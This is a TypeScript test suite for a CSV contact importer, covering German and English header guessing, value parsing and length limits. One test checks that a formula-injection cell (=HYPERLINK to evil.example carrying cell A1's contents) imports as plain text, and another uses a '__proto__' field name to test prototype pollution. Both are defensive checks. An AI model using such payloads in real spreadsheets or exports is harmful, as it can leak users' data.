import { describe, expect, it } from 'vitest'
import { applyMapping, guessMapping, type MappingTarget } from '@shared/interop/csv-mapping'
import { readCsvSync } from '@shared/interop/csv-read'
import { fixtureText } from './helpers'

const read = (text: string) => {
  const result = readCsvSync(text)
  if (!result.ok) throw new Error(`refused: ${result.refusal.code}`)
  return result
}

const day = (iso: string): number => Date.parse(`${iso}T00:00:00Z`)

describe('guessMapping', () => {
  it('recognises common English and German headers', () => {
    const headers = [
      'Full name',
      'Vorname',
      'Last Name',
      'E-Mail',
      'Mobile',
      'Adresse',
      'Abteilung',
      'Job title',
      'Tags',
      'Sprachen',
      'Notizen',
      'Einschätzung',
      'Stage',
      'Leader',
      'Letzter Kontakt',
      'Lieblingsfarbe',
    ]
    expect(guessMapping(headers, [])).toEqual([
      'name',
      'givenName',
      'familyName',
      'email',
      'phone',
      'address',
      'unit',
      'role',
      'tags',
      'languages',
      'notes',
      'assessment',
      'stage',
      'leader',
      'lastContact',
      'ignore',
    ])
  })

  it('maps custom fields by name, ignoring case, before synonyms', () => {
    expect(guessMapping(['shift', 'T-Shirt size', 'Email'], ['Shift', 't-shirt SIZE'])).toEqual([
      'custom:Shift',
      'custom:t-shirt SIZE',
      'email',
    ])
  })

  it('gives each field to one column only', () => {
    expect(guessMapping(['Email', 'E-Mail-Adresse', 'Phone', 'Telefon'], [])).toEqual([
      'email',
      'ignore',
      'phone',
      'ignore',
    ])
  })

  it('recognises Outlook and Google contact exports', () => {
    expect(
      guessMapping(['First Name', 'Last Name', 'E-mail Address', 'Mobile Phone', 'Department'], []),
    ).toEqual(['givenName', 'familyName', 'email', 'phone', 'unit'])
    expect(
      guessMapping(['Name', 'E-mail 1 - Value', 'Phone 1 - Value', 'Group Membership'], []),
    ).toEqual(['name', 'email', 'phone', 'tags'])
  })
})

describe('applyMapping', () => {
  it('imports the German semicolon file', () => {
    const table = read(fixtureText('semicolon-de.csv'))
    const { drafts, issues } = applyMapping(table, guessMapping(table.headers, []))
    expect(drafts).toHaveLength(3)
    expect(drafts[0]).toMatchObject({
      line: 2,
      name: 'Jürgen Weiß',
      email: 'j.weiss@example.de',
      phone: '0171 2345678',
      unitPath: ['Produktion', 'Halle 2'],
      role: 'Schichtleiter',
      languages: ['Deutsch', 'Türkisch'],
      notes: 'Sehr engagiert',
      assessment: 2,
      stage: 'active',
      leader: true,
      lastContactAt: day('2024-03-05'),
    })
    expect(drafts[1]).toMatchObject({
      name: 'Ayşe Demir',
      unitPath: ['Produktion', 'Halle 3'],
      assessment: 0,
      stage: 'talked',
      leader: false,
      lastContactAt: day('2024-02-29'),
    })
    // Bad values are reported; the person still comes in without them.
    expect(drafts[2]).toMatchObject({ name: 'Lena Öztürk', assessment: 0, stage: 'none' })
    expect(issues).toEqual([
      { line: 4, code: 'badAssessment', column: 'Einschätzung' },
      { line: 4, code: 'badValue', column: 'Stufe' },
      { line: 4, code: 'badValue', column: 'Leader' },
      { line: 4, code: 'badValue', column: 'Letzter Kontakt' },
    ])
  })

  it('reports rows without a name and keeps them out', () => {
    const table = read('Name,Email\nAda,ada@example.org\n,nobody@example.org\n')
    const { drafts, issues } = applyMapping(table, ['name', 'email'])
    expect(drafts.map((d) => d.name)).toEqual(['Ada'])
    expect(issues).toEqual([{ line: 3, code: 'noName' }])
  })

  it('keeps out rows with a cell over its limit and names the column', () => {
    const long = (n: number) => 'x'.repeat(n)
    const table = read(
      [
        'Name,Mail,Abteilung,Tags,Farbe',
        `${long(201)},a@example.org,,,`,
        `Ada,${long(321)},,,`,
        `Bea,,Harbour > ${long(121)},,`,
        `Cem,,,ok; ${long(61)},`,
        `Dan,,,,${long(2001)}`,
        `Eva,${long(320)},Harbour > ${long(120)},${long(60)},${long(2000)}`,
      ].join('\n'),
    )
    const mapping: MappingTarget[] = ['name', 'email', 'unit', 'tags', 'custom:Colour']
    const { drafts, issues } = applyMapping(table, mapping)
    expect(drafts.map((d) => d.name)).toEqual(['Eva'])
    expect(drafts[0]!.custom).toEqual({ Colour: long(2000) })
    expect(issues).toEqual([
      { line: 2, code: 'tooLong', column: 'Name' },
      { line: 3, code: 'tooLong', column: 'Mail' },
      { line: 4, code: 'tooLong', column: 'Abteilung' },
      { line: 5, code: 'tooLong', column: 'Tags' },
      { line: 6, code: 'tooLong', column: 'Farbe' },
    ])
  })

  it('splits units, tags and languages', () => {
    const table = read(
      'Name;Unit;Tags;Languages\nAda;Harbour / Night shift/ ;"steward, nights;; steward";en, de\n',
    )
    const { drafts } = applyMapping(table, ['name', 'unit', 'tags', 'languages'])
    expect(drafts[0]).toMatchObject({
      unitPath: ['Harbour', 'Night shift'],
      tags: ['steward', 'nights'],
      languages: ['en', 'de'],
    })
  })

  it('reads assessments, stages, yes/no and dates in the forms people type', () => {
    const rows = [
      ['1', 'Identified', 'x', '2024-01-31'],
      ['5', 'KONTAKTIERT', 'Ja', '1.2.2024'],
      ['3.0', 'leading', 'TRUE', '2024-03-05T10:30:00Z'],
      ['', '', '', ''],
      ['0', 'Führend', 'nein', '29.02.2023'],
      ['6', 'sort of', 'maybe', '2024-13-01'],
    ]
    const text = ['Name,Rating,Stage,Leader,Last contact', ...rows.map((r, i) => `P${i},${r}`)]
    const { drafts, issues } = applyMapping(read(text.join('\n')), [
      'name',
      'assessment',
      'stage',
      'leader',
      'lastContact',
    ])
    const summary = drafts.map((d) => [d.assessment, d.stage, d.leader, d.lastContactAt])
    expect(summary).toEqual([
      [1, 'identified', true, day('2024-01-31')],
      [5, 'contacted', true, day('2024-02-01')],
      [3, 'leading', true, day('2024-03-05')],
      [0, 'none', false, 0],
      [0, 'leading', false, 0],
      [0, 'none', false, 0],
    ])
    expect(issues.map((i) => [i.line, i.code, i.column])).toEqual([
      [6, 'badValue', 'Last contact'],
      [7, 'badAssessment', 'Rating'],
      [7, 'badValue', 'Stage'],
      [7, 'badValue', 'Leader'],
      [7, 'badValue', 'Last contact'],
    ])
  })

  it('joins given and family names when there is no name column', () => {
    const table = read('Vorname,Nachname\nJürgen,Weiß\n,Nur-Nachname\n')
    const { drafts } = applyMapping(table, guessMapping(table.headers, []))
    expect(drafts.map((d) => d.name)).toEqual(['Jürgen Weiß', 'Nur-Nachname'])
  })

  it('imports formula-looking cells as plain text', () => {
    const table = read(fixtureText('hostile-formulas.csv'))
    const { drafts, issues } = applyMapping(table, ['name', 'email', 'notes'])
    expect(issues).toEqual([])
    expect(drafts.map((d) => [d.name, d.notes])).toEqual([
      ['=HYPERLINK("http://evil.example/?x="&A1;"click")', '=1+1'],
      ['=SUM(A1:A9)', '@import'],
      ['+49 notes', '-2+3'],
      ["'Apostrophe kept", "'plain"],
    ])
  })

  it('applies options and survives hostile custom field names', () => {
    const table = read('Name,Proto\nAda,polluted\n')
    const { drafts } = applyMapping(table, ['name', 'custom:__proto__'], {
      defaultStage: 'identified',
      extraTags: ['Import 2024'],
    })
    expect(drafts[0]).toMatchObject({ stage: 'identified', tags: ['Import 2024'] })
    expect(Object.getOwnPropertyDescriptor(drafts[0]!.custom, '__proto__')?.value).toBe('polluted')
    expect(Object.getPrototypeOf(drafts[0]!.custom)).toBe(Object.prototype)
  })
})
